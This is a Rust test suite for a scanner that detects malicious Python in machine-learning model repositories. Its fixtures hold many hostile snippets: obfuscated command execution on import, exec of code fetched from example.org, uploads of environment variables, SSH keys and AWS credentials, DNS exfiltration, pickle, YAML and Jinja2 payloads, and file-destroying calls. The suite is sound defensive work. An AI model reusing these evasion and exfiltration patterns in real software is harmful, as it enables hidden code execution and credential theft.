use proptest::prelude::*;

mod answers;
mod saved;

use super::Project;
use crate::scanner::{self, Around};
use crate::tables::Tables;
use crate::{FileReport, Limits, Outcome};

fn scan_in(project: &Project, path: &str, source: &str) -> FileReport {
    let limits = Limits::default();
    let around = Around::new(&limits, Tables::built_in(), project);
    scanner::scan_in(&path.parse().unwrap(), None, source.as_bytes(), &around)
}

fn scan(source: &str) -> FileReport {
    scan_in(&Project::default(), "modeling.py", source)
}

fn rules(report: &FileReport) -> Vec<&str> {
    report.findings.iter().map(|f| f.rule.as_str()).collect()
}

/// Every way to run a command while being imported. None names its target in a way that a search would find twice.
const ON_IMPORT: &[&str] = &[
    "import os\nos.system('id')\n",
    "import os as o, sys\no.system('id')\n",
    "from os import system as s\ns('id')\n",
    "from os import *\nsystem('id')\n",
    "import subprocess\nclass A:\n    x = subprocess.run(['id'])\n",
    "import os\ndef f(x=os.system('id')): pass\n",
    "import os\ndef f(x: os.system('id')): pass\n",
    "import os\n@os.system\ndef f(): pass\n",
    "import os\nclass M(type):\n    def __new__(c, *a):\n        os.system('id')\nclass A(metaclass=M): pass\n",
    "import os\nclass B:\n    def __init_subclass__(cls):\n        os.system('id')\nclass A(B): pass\n",
    "import os\nclass D:\n    def __set_name__(self, o, n):\n        os.system('id')\nclass A:\n    d = D()\n",
    "import os\nclass A:\n    def __class_getitem__(cls, k):\n        os.system(k)\nA['id']\n",
    "import os\nclass A:\n    __add__ = os.system\nA() + 'id'\n",
    "import os\nclass A:\n    def __getattr__(self, n):\n        os.system(n)\nA().id\n",
    "import os\nclass A:\n    def __enter__(self): os.system('id')\n    def __exit__(self, *a): pass\nwith A(): pass\n",
    "import os\nclass A:\n    def __iter__(self): os.system('id')\nfor x in A(): pass\n",
    "import os\nclass A:\n    def __str__(self): os.system('id')\nf'{A()}'\n",
    "import os\nclass A:\n    @property\n    def p(self): os.system('id')\nA().p\n",
    "import os\nclass A:\n    def __call__(self): os.system('id')\n(lambda a: a())(A())\n",
    "getattr(__import__('os'), 'sys' + 'tem')('id')\n",
    "getattr(__import__('so'[::-1]), '%s%s' % ('sys', 'tem'))('id')\n",
    "__builtins__.__dict__['ev' + 'al'](\"__import__('os').system('id')\")\n",
    "globals()['__builtins__'].__import__('os').system('id')\n",
    "import sys, os\nsys.modules['os'].__dict__['system']('id')\n",
    "vars(__import__('os'))['system']('id')\n",
    "import sys\nsys.modules.setdefault('posix', __import__('posix')).__dict__['sys' + 'tem']('id')\n",
    "import importlib\nimportlib.import_module('subprocess').run('id')\n",
    "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n",
    "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC+2zi/WK64sLknN1VDPTFHXBAB9wQk0')))\n",
    "exec(compile('import os\\nos.system(\"id\")', 'x', 'exec'))\n",
    "exec(''.join(chr(c ^ 1) for c in b'hlqnsu!nr:nr/rxrudl)#he#('))\n",
    "exec(''.join(map(chr, [105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41])))\n",
    "s = ''\nfor c in [111, 115]:\n    s += chr(c)\n__import__(s).system('id')\n",
    "import codecs\ngetattr(__import__('os'), codecs.decode('flfgrz', 'rot13'))('id')\n",
    "f = {'a': __import__('os').system}\nf['a']('id')\n",
    "from functools import partial\nimport os\npartial(os.system, 'id')()\n",
    "import os\nlist(map(os.system, ['id']))\n",
    "import os, atexit\natexit.register(os.system, 'id')\n",
    "import os, mlflow\nmlflow.utils.rest_utils._call('POST', 'https://reg.example.org/h', json=dict(os.environ))\n",
    "import concurrent.futures.process as p\np.mp.util.spawnv_passfds(b'/bin/sh', [b'sh'], ())\n",
    "import torch\ntorch.hub.os.system('id')\n",
    "import os, threading\ndef f(): os.system('id')\nthreading.Thread(target=f).start()\n",
    "import operator, os\noperator.methodcaller('system', 'id')(os)\n",
    "import pkgutil\npkgutil.resolve_name('os:system')('id')\n",
    "# harmless\rimport os\ros.system('id')\r",
    "if True:\n  import os\n  os.system('id')\n",
    "try:\n    import nothing\nexcept ImportError:\n    import os; os.system('id')\n",
    "import os\nwhile True:\n    os.system('id')\n    break\n",
    "import os\n[os.system(c) for c in ('id',)]\n",
    "import os\nx = (y := os.system)('id')\n",
    "def f():\n    def g():\n        import os\n        return os\n    return g().system('id')\nf()\n",
    "import ｏｓ\nｏｓ.system('id')\n",
    "from IPython import get_ipython\nip = get_ipython()\nip.ex('import os; os.system(\"id\")')\n",
    "import zipimport\nzipimport.zipimporter('x.zip').load_module('a')\n",
    "import pip\npip.main(['install', 'x'])\n",
    "import requests\nexec(requests.get('https://example.org/x').text)\n",
    "import urllib.request as u\neval(compile(u.urlopen('https://example.org/x').read(), '', 'exec'))\n",
    "import os\nmatch 1:\n    case 1:\n        os.system('id')\n",
    "async def f():\n    import os\n    os.system('id')\nimport asyncio\nasyncio.run(f())\n",
    "import os\nx: int = os.system('id')\n",
    "import os\nassert os.system('id'), 'x'\n",
    "import os\ndel globals()[os.system('id')]\n",
    "import types\ntypes.FunctionType(b'', {})()\n",
    "import os\nfor os.environ['x'] in [os.system('id')]: pass\n",
    "b = vars(__builtins__ if True else None)\nb['ex' + 'ec']('import os; os.system(1)')\n",
    "try:\n    import nothing\nexcept ImportError as e:\n    e.__traceback__.tb_frame.f_builtins['__import__']('os').system('id')\n",
    "import operator, os\noperator.itemgetter('system')(vars(os))('id')\n",
    "import sys\ndef t(frame, event, arg):\n    frame.f_globals['__builtins__']['exec']('import os; os.system(1)')\nsys.setprofile(t)\n",
    "from ctypes import pythonapi\npythonapi.PyRun_SimpleString(b'x')\n",
    "import pandas\npandas.DataFrame({'a': [1]}).eval('@pandas.io.common.os.popen(1)')\n",
    "dict(vars(__import__('os')))['popen']('id')\n",
    "import os\nglobal_name = None\ndef f():\n    global global_name\n    global_name = os.system\nf()\nglobal_name('id')\n",
];

#[test]
fn whatever_runs_on_import_is_malicious() {
    let missed: Vec<String> = ON_IMPORT
        .iter()
        .map(|source| (source, scan(source)))
        .filter(|(_, report)| report.outcome != Outcome::Malicious)
        .map(|(source, report)| format!("{source}\n  {:?} {:?}", report.outcome, rules(&report)))
        .collect();
    assert!(missed.is_empty(), "{} of {} missed\n{}", missed.len(), ON_IMPORT.len(), missed.join("\n"));
}

/// Source that is worth a look, and the rule that says so.
const SUSPICIOUS: &[(&str, &str)] = &[
    ("import requests\nrequests.get('https://example.org')\n", "python/network-on-import"),
    ("open('x', 'w').write('y')\n", "python/writes-on-import"),
    ("import pickle, sys\npickle.load(open(sys.argv[1], 'rb'))\n", "python/unsafe-load"),
    ("import joblib\njoblib.load('/tmp/x.pkl')\n", "python/unsafe-load"),
    ("import ctypes\nctypes.CDLL('x.so')\n", "python/native-code"),
    ("import importlib, config\nimportlib.import_module(config.name)\n", "python/computed"),
    ("import config\nexec(config.code)\n", "python/computed"),
    ("import os\nclass A:\n    def forward(self, x):\n        os.system(x)\n", "python/runs-in-use"),
    (
        "import os, spacy\n@spacy.registry.callbacks('a.v1')\ndef make():\n    def run(nlp):\n        os.system('id')\n        return nlp\n    return run\n",
        "python/runs-in-use",
    ),
    ("class A:\n    def f(self, c):\n        return eval(c.act)\n", "python/evaluates-data"),
    ("import torch\nm = torch.hub.load('a/b', 'c')\n", "python/foreign-code"),
    (
        "from transformers import AutoModel\nclass A:\n    def __init__(self):\n        AutoModel.from_pretrained('a/b', trust_remote_code=True)\n",
        "python/foreign-code",
    ),
    ("x = ().__class__.__base__.__subclasses__()\n", "python/escape"),
    ("# -*- coding: utf-7 -*-\nx = 1\n", "python/disguised"),
    ("x = 1 # \u{202e} hidden\n", "python/disguised"),
    ("import builtins\nbuiltins.open = None\n", "python/replaces"),
    ("import sys\nclass F: pass\nsys.meta_path.insert(0, F())\n", "python/replaces"),
    ("import base64, os\ndef f():\n    exec(base64.b64decode(os.environ['X']))\n", "python/hidden-code"),
    (
        "def f(x):\n    import os\n    getattr(os, 'sy' + 'stem')(x)\nclass A:\n    def g(self):\n        f('id')\n",
        "python/hidden-code",
    ),
    ("def f(:\n", "python/unparsed"),
    ("import sys\nsys.path.insert(0, 'data/weights.bin')\nimport helper\n", "python/computed"),
    (
        "import builtins\n[f for n, f in vars(builtins).items() if n[::-1] == 'lave'][0]('1')\n",
        "python/hidden-code",
    ),
    ("import gc, os\ngc.callbacks.append(lambda a, b: os.system('id'))\n", "python/runs-in-use"),
    ("import os\ndef pytest_configure(config):\n    os.system('id')\n", "python/runs-in-use"),
    (
        "from flask import Flask, request\nimport os\napp = Flask('x')\n@app.route('/')\ndef f():\n    return os.popen(request.args.get('q')).read()\n",
        "python/runs-in-use",
    ),
    (
        "from fastapi import FastAPI\napp = FastAPI()\n@app.get('/')\ndef f(e: str):\n    return eval(e)\n",
        "python/evaluates-data",
    ),
    // What another package has of a function, its users call.
    ("import torch, os\ndef load(f):\n    os.popen('id')\ntorch.load = load\n", "python/runs-in-use"),
    (
        "import warnings, subprocess\nwarnings.showwarning = lambda *a: subprocess.run(['id'])\n",
        "python/runs-in-use",
    ),
    (
        "import atexit, shutil, os\nfrom torch import nn\nclass M(nn.Module):\n    def __init__(self):\n        atexit.register(shutil.rmtree, os.path.expanduser('~/Documents'), True)\n",
        "python/persistence",
    ),
    (
        "import shutil\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, x):\n        shutil.rmtree('/models')\n        return x\n",
        "python/persistence",
    ),
    (
        "import socket\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, x):\n        socket.getaddrinfo(x.cpu().numpy().tobytes().hex() + '.t.example.org', 80)\n        return x\n",
        "python/exfiltration",
    ),
    (
        "import weakref, shutil\nclass A: pass\na = A()\nweakref.finalize(a, shutil.rmtree, '/home/user')\n",
        "python/writes-on-import",
    ),
    (
        "import threading, requests\nthreading.Timer(5, requests.post, args=('https://example.org', b'x')).start()\n",
        "python/network-on-import",
    ),
    (
        "import subprocess, sys\nclass A:\n    def f(self, n):\n        cmd = [sys.executable]\n        if n:\n            cmd += ['-c', 'x']\n        subprocess.run(cmd)\n",
        "python/runs-in-use",
    ),
    // What stands in the place of a library's function sends what that is asked for.
    (
        "import transformers, requests\norig = transformers.AutoModel.from_pretrained\ndef load(*a, **k):\n    requests.get('https://c.example.org/?t=' + k['token'])\n    return orig(*a, **k)\ntransformers.AutoModel.from_pretrained = load\n",
        "python/runs-in-use",
    ),
    (
        "import gradio, os\ndef run(c):\n    return os.popen(c).read()\ngradio.Interface(run).launch()\n",
        "python/runs-in-use",
    ),
    (
        "import fastapi, subprocess\napp = fastapi.FastAPI()\n@app.get('/')\ndef run(c):\n    subprocess.run(f'ls {c}', shell=True)\n",
        "python/runs-in-use",
    ),
];

#[test]
fn what_is_worth_a_look_is_told() {
    for (source, rule) in SUSPICIOUS {
        let report = scan(source);
        assert!(rules(&report).contains(rule), "{source}: {:?}", report.findings);
        assert_ne!(report.outcome, Outcome::Clean, "{source}");
    }
    let malicious = [
        "import os, requests\nrequests.post('https://example.org', data=dict(os.environ))\n",
        "open('/home/user/.bashrc', 'a').write('x')\n",
        "import requests\nk = open('/home/user/.ssh/id_rsa').read()\nrequests.post('https://example.org', json={'k': k})\n",
        "import pickle\npickle.loads(b'cos\\nsystem\\n(S\"id\"\\ntR.')\n",
    ];
    for source in malicious {
        let report = scan(source);
        assert_eq!(report.outcome, Outcome::Malicious, "{source}: {:?}", report.findings);
    }
}

/// A modelling file as repositories have them.
const MODEL: &str = r#"
"""A small decoder."""
import math
import os
from dataclasses import dataclass
from typing import Optional, Tuple, Union

import torch
import torch.nn.functional as F
from torch import nn
from transformers import PretrainedConfig, PreTrainedModel
from transformers.activations import ACT2FN
from transformers.utils import logging

try:
    from flash_attn import flash_attn_func
except ImportError:
    flash_attn_func = None

logger = logging.get_logger(__name__)
MODE = os.environ.get("SMALL_MODE", "eager")


class SmallConfig(PretrainedConfig):
    model_type = "small"

    def __init__(self, hidden_size: int = 64, layers: int = 2, act: str = "silu", **kwargs):
        self.hidden_size = hidden_size
        self.layers = layers
        self.act = act
        super().__init__(**kwargs)


class Norm(nn.Module):
    def __init__(self, size, eps=1e-6):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(size))
        self.eps = eps

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.weight * x * torch.rsqrt(x.pow(2).mean(-1, keepdim=True) + self.eps)


def rotate(x, cos, sin):
    first, second = x[..., : x.shape[-1] // 2], x[..., x.shape[-1] // 2 :]
    return (x * cos) + (torch.cat((-second, first), dim=-1) * sin)


@dataclass
class Output:
    logits: Optional[torch.FloatTensor] = None


class Block(nn.Module):
    def __init__(self, config: SmallConfig, index: int):
        super().__init__()
        self.norm = Norm(config.hidden_size)
        self.up = nn.Linear(config.hidden_size, 4 * config.hidden_size, bias=False)
        self.down = nn.Linear(4 * config.hidden_size, config.hidden_size, bias=False)
        self.act = ACT2FN[config.act]

    def forward(self, x, mask=None):
        return x + self.down(self.act(self.up(self.norm(x))))


class SmallModel(PreTrainedModel):
    config_class = SmallConfig
    _no_split_modules = ["Block"]

    def __init__(self, config):
        super().__init__(config)
        self.blocks = nn.ModuleList([Block(config, i) for i in range(config.layers)])
        self.head = getattr(nn, "Linear")(config.hidden_size, 10)
        self.post_init()

    def _init_weights(self, module):
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=0.02)

    def forward(self, input_ids, attention_mask: Optional[torch.Tensor] = None, **kwargs) -> Union[Tuple, Output]:
        for name, block in self.named_children():
            x = getattr(self, name)(input_ids)
        logger.warning_once(f"running {self.config.model_type!r} in {MODE:>8}")
        if not self.training and (n := len(self.blocks)) > 1:
            x = x / math.sqrt(n)
        return Output(logits=self.head(x))

    def save_vocabulary(self, folder, prefix=None):
        with open(os.path.join(folder, "vocab.txt"), "w", encoding="utf-8") as out:
            out.write("\n".join(self.vocab))


SmallModel.register_for_auto_class("AutoModel")

if __name__ == "__main__":
    import subprocess
    subprocess.run(["ls"])
    state = torch.load("x.bin")
"#;

#[test]
fn modelling_code_is_clean() {
    let mut project = Project::default();
    project.add_source("modeling.py", MODEL);
    project.load("modeling.py");
    for project in [Project::default(), project] {
        let report = scan_in(&project, "modeling.py", MODEL);
        assert_eq!(report.outcome, Outcome::Clean, "{:#?}", report.findings);
        assert_eq!(report.covered_bytes, report.size);
        assert!(rules(&report).contains(&"python/packages"));
        assert!(rules(&report).contains(&"python/capability"));
    }
}

#[test]
fn what_is_handed_over_is_judged_by_what_its_callers_choose() {
    for source in [
        "import click, subprocess\n@click.command()\ndef main(path):\n    subprocess.run(['ffmpeg', '-i', path])\n",
        "import datasets\ndef clean(row):\n    return {'x': eval(row['x'])}\ndatasets.Dataset().map(lambda r: eval(r))\n",
        "import subprocess\ndef run(args):\n    subprocess.run(['gcloud', args.name])\ndef main(parsers):\n    parsers.add_parser('x').set_defaults(func=run)\n",
        "import subprocess\ndef run(args):\n    cmd = ['gcloud']\n    if args.alpha:\n        cmd += ['alpha']\n    subprocess.run(cmd)\ndef main(parsers):\n    parsers.add_parser('x').set_defaults(func=run)\n",
        "import subprocess, sys\nclass Launcher:\n    def start(self, path):\n        cmd = [sys.executable]\n        if path:\n            cmd += [path]\n        subprocess.Popen(cmd)\n",
        "import os, subprocess\nclass Requeue:\n    def requeue(self):\n        cmd = ['scontrol', 'requeue', os.environ['SLURM_JOB_ID']]\n        subprocess.call(' '.join(cmd), shell=True)\n",
        "class Adapter:\n    def update(self, r):\n        conv = type(self.layer())\n        self.a = conv(self.features, r, 3, bias=False)\n        self.b = conv(4, r)\n",
        "import yaml\nclass Plain(yaml.SafeLoader):\n    pass\ndef read(f):\n    return yaml.load(f, Loader=Plain)\n",
        "import flask, joblib\napp = flask.Flask(__name__)\nmodel = joblib.load('model/model.joblib')\n",
        "import torch\ndef forward(self, x):\n    return x\ntorch.nn.Linear.forward = forward\n",
        "import sys\nsys.path.append('third_party/v1.0')\nsys.path.insert(0, '..')\n",
        "import pandas\npandas.read_csv('x').query('a > @limit and b < 3')\n",
    ] {
        let report = scan(source);
        assert_eq!(report.outcome, Outcome::Clean, "{source}: {:?}", report.findings);
    }
}

#[test]
fn a_harmful_helper_is_found_through_the_file_that_calls_it() {
    let mut project = Project::default();
    project.add_source("util/helper.py", "import os\ndef go(c):\n    os.system(c)\n");
    let main = "from .util.helper import go\ngo('id')\n";
    project.add_source("modeling.py", main);
    let report = scan_in(&project, "modeling.py", main);
    assert_eq!(report.outcome, Outcome::Malicious);
    assert_eq!(report.findings[0].place.path, "util/helper.py");
    let helper = scan_in(&project, "util/helper.py", "import os\ndef go(c):\n    os.system(c)\n");
    assert_eq!(helper.outcome, Outcome::Clean);
}

#[test]
fn an_installer_runs_the_files_beside_it() {
    let setup = "exec(open('src/version.py').read())\n";
    let outcome = |version: &str, scanned: &str| {
        let mut project = Project::default();
        project.add_source("src/version.py", version);
        let text = if scanned == "src/version.py" { version } else { setup };
        scan_in(&project, scanned, text).outcome
    };
    assert_eq!(outcome("__version__ = '1'\n", "setup.py"), Outcome::Clean);
    // What it does is told where it lies.
    assert_eq!(outcome("import os\nos.system('id')\n", "src/version.py"), Outcome::Malicious);
    assert_ne!(outcome("__version__ = '1'\n", "modeling.py"), Outcome::Clean);
}

#[test]
fn what_a_loader_calls_is_as_bad_as_an_import() {
    let source = "import os\nclass A:\n    def __init__(self, c):\n        os.system('id')\n";
    assert_eq!(scan(source).outcome, Outcome::Suspicious);
    let mut project = Project::default();
    project.add_source("modeling.py", source);
    project.load("modeling.py");
    assert_eq!(scan_in(&project, "modeling.py", source).outcome, Outcome::Malicious);
}

#[test]
fn nesting_ends_neither_the_parser_nor_the_machine() {
    for source in [
        format!("x = {}1{}\nimport os\n", "(".repeat(50_000), ")".repeat(50_000)),
        format!("x = {}1\n", "not ".repeat(100_000)),
        format!("x = 1{}\n", "+1".repeat(100_000)),
        format!("x = a{}\n", ".b".repeat(100_000)),
        format!("x = a{}\n", "()".repeat(100_000)),
        format!("{}pass\n", (0..2_000).map(|n| format!("{}if x:\n", " ".repeat(n))).collect::<String>()),
        format!("if x: pass\n{}", "elif x: pass\n".repeat(50_000)),
        format!("x = {}1\n", "lambda: ".repeat(50_000)),
        format!("x = f'{}'\n", "{f\"".repeat(5_000)),
        "def f(): return f()\nf()\n".to_owned(),
        "x = ()\nwhile True:\n    x = (x,)\n".to_owned(),
        "x = 'a'\nfor i in range(100): x = x + x\n".to_owned(),
        "exec(s := 'exec(s)')\n".to_owned(),
    ] {
        let report = scan(&source);
        assert!(report.outcome <= Outcome::Suspicious, "{:?}", report.findings.first());
    }
}

proptest! {
    #[test]
    fn arbitrary_text_is_read_to_its_end(text in "[\\PC\n\t\r]{0,200}") {
        scan(&text);
    }

    #[test]
    fn mutated_source_is_read_to_its_end(at in 0usize..2_000, with in "[\\[\\](){}'\":,=\n@#]{1,6}") {
        let at = (0..=at.min(MODEL.len())).rev().find(|at| MODEL.is_char_boundary(*at)).unwrap_or(0);
        let text = [&MODEL[..at], &with, &MODEL[at..]].concat();
        scan(&text);
    }
}

#[test]
fn modules_inside_of_files_and_parts_of_files_are_told() {
    for (source, rule) in [
        ("import sys\nsys.path.insert(0, 'weights.zip')\nimport hidden\n", Some("python/computed")),
        ("import os, sys\nsys.path.insert(0, os.path.dirname(__file__))\nsys.path.append('src')\n", None),
        ("import site\nsite.addsitedir('.')\n", Some("python/runs-on-import")),
        ("exec(open(__file__).read().split('#')[1])\n", Some("python/computed")),
        ("import base64\nexec(base64.b64decode('cGFzcw=='))\n", Some("python/hidden-code")),
        ("exec('x = 1')\n", None),
        ("import shutil\nshutil.os.system('true')\n", Some("python/runs-on-import")),
        ("import torch\ntorch.serialization.os.popen('true')\n", Some("python/runs-on-import")),
        ("import torch\ntorch.os.path.join('a', 'b')\n", None),
        ("import sys\nsys._getframe().f_builtins['exec'](x)\n", Some("python/computed")),
        (
            "import subprocess\nclass P(subprocess.Popen):\n    pass\nP(['true'])\n",
            Some("python/runs-on-import"),
        ),
        ("from torch import nn\nclass N(nn.Module):\n    pass\nN()\n", None),
        (
            "import os, types\nm = types.ModuleType('m')\nm.f = os.system\nm.f('true')\n",
            Some("python/runs-on-import"),
        ),
        ("import os\nx: os.system('true') = 1\n", Some("python/runs-on-import")),
        ("import os\ndef f():\n    x: os.system('true') = 1\nf()\n", None),
        (
            "import os\nfrom dataclasses import dataclass, field\n@dataclass\nclass D:\n    x: int = field(default_factory=lambda: os.system('true'))\n",
            Some("python/runs-on-import"),
        ),
        ("n = 'add'\neval('np.' + n)\n", None),
        ("from IPython.display import Javascript\nJavascript('fetch(1)')\n", Some("notebook/script")),
        ("from IPython.display import HTML\nHTML('<b>x</b>')\n", None),
    ] {
        let report = scan(source);
        match rule {
            Some(rule) => assert!(rules(&report).contains(&rule), "{source}: {:?}", report.findings),
            None => assert_eq!(report.outcome, Outcome::Clean, "{source}: {:?}", report.findings),
        }
    }
}

#[test]
fn what_is_not_known_is_not_proven() {
    for (source, rule) in [
        (
            "from pathlib import Path\nclass A:\n    def f(self):\n        with (Path.home() / '.bashrc').open('a') as f:\n            f.write('x')\n",
            Some("python/persistence"),
        ),
        (
            "import os\nfrom huggingface_hub import HfApi\nclass A:\n    def f(self):\n        HfApi().upload_file(path_or_fileobj=os.path.expanduser('~/.ssh/id_rsa'))\n",
            Some("python/exfiltration"),
        ),
        ("import stranger_pkg\nstranger_pkg.go()\n", Some("python/not-proven")),
        ("import imaplib\nimaplib.something('x')\n", Some("python/not-proven")),
        ("fs = make()\nfs[0]('id')\n", Some("python/not-proven")),
        ("import random\nrandom._os.thing()\n", Some("python/not-proven")),
        ("import numpy as np\nx = np.zeros(3).sum()\nraise ValueError('x')\n", None),
        ("import torch\ndef f(make):\n    return make()(1)\n", None),
        ("from .sibling import f\nf()\n", None),
        // What importing gives away is run by somebody.
        (
            "import torch, os\ndef f(k):\n    os.system('true')\ntorch.utils.data.DataLoader([], worker_init_fn=f)\n",
            Some("python/runs-in-use"),
        ),
        ("import click, os\n@click.command()\ndef f():\n    os.system('true')\n", None),
        (
            "import typing\nclass C:\n    a: \"__import__('os').system('true')\"\n",
            Some("python/runs-on-import"),
        ),
        (
            "import subprocess\nT = dict(zip(('a', 'b'), (open, subprocess.getoutput)))\nT['b']('true')\n",
            Some("python/runs-on-import"),
        ),
        ("x = type(lambda: 0)(compile(input(), 'g', 'exec'), {})()\n", Some("python/computed")),
        (
            "import psycopg2\npsycopg2.connect('').cursor().execute(\"COPY t TO PROGRAM 'true'\")\n",
            Some("python/runs-on-import"),
        ),
        (
            "import os, requests\ndef main():\n    requests.post('http://example.org', json=dict(os.environ))\n",
            Some("python/reads-credentials"),
        ),
        (
            "import pathlib, requests\nclass P:\n    def forward(self, x):\n        key = pathlib.Path.home() / '.ssh/id_rsa'\n        requests.post('https://example.org', data=key.read_bytes())\n",
            Some("python/exfiltration"),
        ),
        (
            "import pathlib, requests\nclass P:\n    def forward(self, x):\n        for key in pathlib.Path('~/.ssh').expanduser().iterdir():\n            requests.post('https://example.org', data=key.read_text())\n",
            Some("python/exfiltration"),
        ),
        (
            "import os, shutil\nclass P:\n    def forward(self, x):\n        shutil.copy(os.path.expanduser('~/.ssh/id_rsa'), 'weights.bin')\n",
            Some("python/reads-credentials"),
        ),
        (
            "import os\nclass P:\n    def f(self):\n        os.environ['LD_PRELOAD'] = './w.so'\n",
            Some("code/environment"),
        ),
        ("import os\nos.environ.update(PYTHONSTARTUP='x.py')\n", Some("code/environment")),
        ("import os\nos.environ['LD_PRELOAD'] = '/usr/lib/libjemalloc.so'\nos.environ['A'] = 'x'\n", None),
        ("import os\nos.environ['PIP_INDEX_URL'] = 'http://198.51.100.7/simple'\n", Some("code/environment")),
        ("import os\nos.environ['PIP_INDEX_URL'] = 'https://pypi.org/simple'\n", None),
        (
            "import os\nclass P:\n    def __init__(self):\n        self.run = os.system\n    def forward(self, x):\n        self.run('id')\n",
            Some("python/runs-in-use"),
        ),
        (
            "import os\nclass P:\n    run = os.system\n    def forward(self, x):\n        type(self).run('id')\n",
            Some("python/runs-in-use"),
        ),
        (
            "import os\nclass P:\n    run = os.system\n    def forward(self, x):\n        self.run('id')\n",
            Some("python/runs-in-use"),
        ),
        (
            "import os\nclass P:\n    def forward(self, x):\n        open('/dev/sda', 'wb').write(b'0')\n",
            Some("python/persistence"),
        ),
        (
            "import os\nclass P:\n    def f(self):\n        os.chmod('/etc/passwd', 511)\n",
            Some("python/persistence"),
        ),
        (
            "import jinja2\nclass P:\n    def f(self):\n        jinja2.Template(\"{{ cycler.__init__.__globals__.os.system('id') }}\").render()\n",
            Some("template/escape"),
        ),
        (
            "import jinja2\nclass P:\n    def f(self, x):\n        return jinja2.Template('{{ x }}').render(x=x)\n",
            None,
        ),
        (
            "import yaml\nclass P:\n    def f(self):\n        yaml.load('!!python/object/apply:os.system [id]', Loader=yaml.Loader)\n",
            Some("python/unsafe-load"),
        ),
        (
            "import gc, torch\nclass P:\n    def f(self):\n        return [o.size() for o in gc.get_objects() if torch.is_tensor(o)]\n",
            None,
        ),
        (
            "import glob, os, requests\nclass P:\n    def forward(self, x):\n        for key in glob.glob(os.path.expanduser('~/.aws/*')):\n            requests.post('https://example.org', data=open(key, 'rb').read())\n",
            Some("python/exfiltration"),
        ),
        (
            "import os, requests\nclass A:\n    def f(self):\n        requests.get('https://example.org', headers={'x': os.environ['API_KEY']})\n",
            None,
        ),
        (
            "import subprocess\nsubprocess.run('pip install flash-attn --no-build-isolation', shell=True)\n",
            None,
        ),
        (
            "import subprocess\nsubprocess.run('pip install strangers-pkg', shell=True)\n",
            Some("python/runs-on-import"),
        ),
    ] {
        let report = scan(source);
        match rule {
            Some(rule) => assert!(rules(&report).contains(&rule), "{source}: {:?}", report.findings),
            None => assert_eq!(report.outcome, Outcome::Clean, "{source}: {:?}", report.findings),
        }
    }
}
